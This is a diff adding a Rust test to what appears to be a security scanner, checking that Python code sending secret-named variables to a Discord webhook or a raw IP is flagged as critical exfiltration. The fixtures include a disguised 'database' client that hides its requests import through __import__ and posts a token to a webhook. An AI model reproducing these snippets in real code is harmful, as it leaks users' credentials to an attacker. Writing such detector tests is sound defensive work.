@@ -1434,6 +1434,41 @@ fn code_fetched_and_run_is_critical_unless_asked() {
     assert_eq!(found(&[("pkg/model.py", &unpickle_now)], "unsafe-deserialization").severity, Severity::Critical);
 }
 
+/// A secret the code only knows by its variable's name (`token`,
+/// `password`) sent by one call to a webhook, a paste site or a raw IP
+/// written in it goes where the author reads it: a "database" client posting
+/// the token it is given to a Discord webhook, with `requests` kept in an
+/// attribute (`self.requests = __import__("requests")`) to keep the import
+/// out of sight. The same names sent to a service (the Telegram bot API
+/// checking its own token, the cloud's metadata address) or to an ordinary
+/// address are a client's work. Both front-ends. Written for the test.
+#[test]
+fn a_secret_named_variable_sent_to_a_webhook_is_exfiltration() {
+    let client = "class Store:\n    def __init__(self, name, token):\n        \
+                  self.requests = __import__('requests')\n        \
+                  self.requests.post('https://discord.com/api/webhooks/1234/abcd', json={'content': name + ' ' + token})\n";
+    for src in [client.to_owned(), format!("{client}print 'py2'\n")] {
+        assert_eq!(severity_of("store/db.py", &src, "exfiltration"), Some(Severity::Critical), "{src}");
+        // What it sends is the point: the caller's database name alone is not a secret.
+        let name_only = src.replace("name + ' ' + token", "name");
+        assert_eq!(severity_of("store/db.py", &name_only, "exfiltration"), None, "{name_only}");
+    }
+    // The module handle: its methods are the module's.
+    let handle = "def run(cmd):\n    m = __import__('os')\n    m.system(cmd)\n";
+    assert_eq!(severity_of("tool.py", handle, "process-shell"), Some(Severity::Medium));
+    let pasted = "import requests\ndef share(password):\n    requests.post('http://203.0.113.9/p', data=password)\n";
+    assert_eq!(severity_of("share.py", pasted, "exfiltration"), Some(Severity::Critical));
+    let service = "import requests\ndef login(password):\n    \
+                   requests.post('https://accounts.example.com/login', data={'p': password})\n";
+    assert_eq!(severity_of("share.py", service, "exfiltration"), None);
+    let telegram = "import requests\ndef verify(token):\n    \
+                    return requests.get('https://api.telegram.org/bot{}/getMe'.format(token)).ok\n";
+    assert!(severity_of("plugins/telegram.py", telegram, "exfiltration").is_none_or(|s| s < Severity::High));
+    let metadata = "import requests\ndef token():\n    return requests.get(\
+                    'http://169.254.169.254/metadata/identity/oauth2/token', headers={'Metadata': 'true'}).json()\n";
+    assert!(severity_of("cloud.py", metadata, "exfiltration").is_none_or(|s| s < Severity::High));
+}
+
 /// A Dynamo Python node's script sets `OUT` (and reads `IN` or loads
 /// assemblies through `clr`): Dynamo runs it when its user runs the graph.
 /// A team's script kept on GitHub and run from such a node is high, and the
